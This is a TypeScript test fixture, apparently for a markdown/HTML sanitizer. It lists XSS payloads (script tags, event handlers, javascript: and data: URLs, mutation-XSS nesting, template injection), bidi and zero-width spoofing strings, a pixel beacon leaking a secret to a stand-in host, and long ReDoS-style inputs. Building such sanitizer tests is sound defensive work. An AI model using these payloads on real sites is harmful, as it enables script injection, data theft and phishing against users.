/** Where something would be asked for that must not be: nobody answers there. */
export const elsewhere = 'https://elsewhere.invalid'

/** Texts that would do something if a page took them for anything but text. Each calls `ran()` where it runs. */
export const hostile: readonly string[] = [
  '<script>ran()</script>',
  `<img src=x onerror="ran()">`,
  `<svg onload="ran()"><circle r="9"/></svg>`,
  `<svg><script>ran()</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:parent.ran()"></iframe>`,
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  `<object data="${elsewhere}/object"></object><embed src="${elsewhere}/embed">`,
  `<link rel=stylesheet href="${elsewhere}/style.css"><style>@import '${elsewhere}/import.css';</style>`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/refresh"><base href="${elsewhere}/">`,
  `<form action="${elsewhere}/form"><button autofocus onfocus=ran()>Log in again</button></form>`,
  `<details open ontoggle=ran()><summary>x</summary></details>`,
  `<video src="${elsewhere}/video" poster="${elsewhere}/poster" autoplay></video><audio src="${elsewhere}/audio" autoplay></audio>`,
  `[a](javascript:ran()) [b](JaVaScRiPt:ran()) [c](java\nscript:ran()) [d](&#106;avascript:ran()) [e](\u0001javascript:ran())`,
  `[f](data:text/html,<script>ran()</script>) [g](vbscript:ran()) [h](file:///etc/passwd) [i](//elsewhere.invalid/scheme) [j](http://elsewhere.invalid/plain)`,
  `![pixel](${elsewhere}/pixel.png) ![q](//elsewhere.invalid/q.png) ![r](data:image/svg+xml,<svg onload=ran()>) ![s][t]\n\n[t]: ${elsewhere}/reference.png`,
  `<a href="javascript:ran()">x</a> <a href="${elsewhere}/ping" ping="${elsewhere}/ping">y</a>`,
  `![x](${elsewhere}/?secret=4711 "title")`,
  '```html\n<script>ran()</script>\n```',
  `~~~\n</code></pre><script>ran()</script>\n~~~`,
  '| a | b |\n|---|---|\n| <img src=x onerror=ran()> | `<script>ran()</script>` |',
  `[^1]: <img src=x onerror=ran()>\n\nnote[^1]`,
  '\u001b[31mred\u001b[0m \u001b]8;;https://elsewhere.invalid\u0007link\u001b]8;;\u0007 \u001b[2J \u009b31m',
  'invoice\u202Egnp.exe \u2066isolated\u2069 \u200Bzero\u200Dwidth \uFEFFmark \u061Carabic',
  'tags \u{E0041}\u{E0042}\u{E007F} end',
  `'"><img src=x onerror=ran()><"'`,
  `{{constructor.constructor('ran()')()}} \${ran()} <%= ran() %>`,
  `<!--<img src="--><img src=x onerror=ran()//">`,
  `<a href="https://user:password@elsewhere.invalid/">bank</a> [bank](https://bank.example@elsewhere.invalid/)`,
  `<template><script>ran()</script></template><noscript><p title="</noscript><img src=x onerror=ran()>">`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+ran()//'>`,
]

/** A megabyte without a line end, and marks that take long to match. */
export const longLines: readonly string[] = [
  'x'.repeat(1 << 20),
  '['.repeat(20_000),
  '*a '.repeat(20_000),
  '<'.repeat(50_000),
  `${'> '.repeat(5000)}deep`,
  `${'- '.repeat(2000)}deep`,
]

/** Run in a page before anything else: counts what ran. */
export const countRuns = `window.ranCount = 0; window.ran = () => { window.ranCount++ }`
